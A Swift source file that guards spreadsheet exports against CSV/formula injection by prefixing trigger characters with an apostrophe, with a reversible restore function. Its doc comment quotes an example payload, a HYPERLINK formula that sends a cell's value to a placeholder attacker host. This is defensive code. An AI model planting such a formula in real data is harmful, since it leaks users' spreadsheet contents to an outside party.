/// Stops exported cells from running as spreadsheet formulas ("CSV injection"), reversibly.
///
/// A member could give their name as `=HYPERLINK("http://evil.example/?"&A1,"Click")`; opened in
/// Excel or LibreOffice, an export would run it. OWASP's CSV injection guidance
/// (https://owasp.org/www-community/attacks/CSV_Injection) says to prefix any cell that starts
/// with `=`, `+`, `-`, `@`, tab or carriage return with a single quote, which spreadsheets
/// treat as "this is text".
///
/// To make the prefix exactly reversible, a cell that already starts with `'` is prefixed too.
/// Then `restore` strips one leading `'` whenever the next character is a trigger or `'`, and
/// `restore(neutralise(x)) == x` for every string, so a spreadsheet exported and re-imported
/// comes back unchanged. (A hand-typed cell such as `'-5` imports as `-5`: in a spreadsheet that
/// apostrophe only ever meant "text".)
public enum SpreadsheetSafety {
    /// The first bytes that make a cell need the prefix: OWASP's triggers plus the apostrophe.
    private static func needsPrefix(_ byte: UInt8) -> Bool {
        switch byte {
        case UInt8(ascii: "="), UInt8(ascii: "+"), UInt8(ascii: "-"), UInt8(ascii: "@"),
            UInt8(ascii: "\t"), UInt8(ascii: "\r"), UInt8(ascii: "'"):
            return true
        default:
            return false
        }
    }

    /// The cell made safe to open in a spreadsheet: prefixed with `'` if it starts with a
    /// trigger or an apostrophe, otherwise unchanged.
    public static func neutralise(_ cell: String) -> String {
        guard let first = cell.utf8.first, needsPrefix(first) else { return cell }
        return "'" + cell
    }

    /// Undoes `neutralise`: drops one leading `'` if the character after it is a trigger or `'`.
    public static func restore(_ cell: String) -> String {
        let utf8 = cell.utf8
        guard utf8.first == UInt8(ascii: "'"), let second = utf8.dropFirst().first, needsPrefix(second)
        else { return cell }
        return String(cell.unicodeScalars.dropFirst())
    }
}
